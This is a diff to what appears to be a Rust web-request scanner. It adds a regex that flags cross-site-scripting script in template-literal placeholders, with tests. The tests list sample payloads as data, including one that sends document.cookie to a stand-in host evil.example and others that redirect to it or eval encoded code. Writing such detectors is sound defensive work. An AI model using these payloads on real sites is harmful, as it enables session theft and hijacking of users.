@@ -177,6 +177,11 @@ impl Xss {
             // A function called by a tagged template instead of parentheses
             // (``[].sort.call`${alert}1` ``, ``Function`alert\x281\x29``` ``).
             (r"\.\s*(?:call|apply|bind)\s*`[^`]*`|\b(?:function|constructor)\s*`[^`]*`", High, 0.8, "function called through a template literal"),
+            // A template-literal placeholder that opens a dialog, evaluates code or reaches the
+            // cookie, the document or the page's location (`${alert(document.domain)}`): what a
+            // value echoed into a script's template string runs. Reading a property
+            // (`${window.location.origin}`, `${user.name}`) is a code sample's.
+            (r"\$\{[^{}]{0,100}?(?:\b(?:alert|prompt|confirm|eval)\s*[(`]|\bdocument\s*\.\s*(?:cookie|domain|write(?:ln)?\s*\()|\blocation(?:\s*\.\s*href)?\s*=[^=])[^{}]{0,100}\}", High, 0.85, "script in a template-literal placeholder"),
             (r"^\s*(?:alert|prompt|confirm|atob|btoa|eval)\s*(?:\([^()]{0,64}\)|`[^`]{0,64}`)\s*;?\s*$|^\s*(?:window\s*\.\s*)?print\s*\(\s*\)\s*;?\s*$", High, 0.75, "lone script call"),
             (r"\b(?:document|window|self|top|parent|frames|globalthis|this)\s*(?:/\*.*?\*/\s*)+[.\[]|\b(?:document|window)\s*\.\s*/\*", High, 0.8, "comment-obfuscated DOM access"),
             (r#"\b(?:self|top|parent|frames|globalthis|window|this|document)\s*\)?\s*\[\s*(?:["'`/]|[a-z_]+\s*\+)"#, High, 0.7, "obfuscated global object access"),
@@ -370,6 +375,28 @@ mod tests {
             "binding: ctrl+s",
         ] {
             assert!(!flags("attack.xss", v), "{v}");
+        }
+    }
+
+    #[test]
+    fn script_in_template_literal_placeholders() {
+        use crate::fields::Part;
+        for v in ["${alert(document.domain)}", "x${confirm`1`}", "${ prompt(1) }", "${eval(atob('Z28oKQ=='))}", "${fetch('//evil.example/?c='+document.cookie)}", "${document.write('<b>x</b>')}", "${location='//evil.example'}", "a`;${top.location.href='//evil.example'}"] {
+            assert!(flags("attack.xss", v), "{v}");
+            assert!(flags_at("attack.xss", Part::Body, v), "{v} in a form");
+            assert!(flags_in_json("attack.xss", v), "{v} in a JSON text field");
+        }
+        for v in [
+            "Hello ${user.name}, your order ${order.id} shipped",
+            "const url = `${window.location.origin}/api/${id}`",
+            "${document.title} - ${site}",
+            "${location == 'eu' ? 'EUR' : 'USD'}",
+            "price: ${amount} (confirm before paying)",
+            "${alert_count} alerts",
+            "${APP_DOMAIN}/cookie-policy",
+        ] {
+            assert!(!any_flag_in_json(v), "{v}");
+            assert!(!flags("attack.xss", v), "{v} in a query");
         }
     }
 
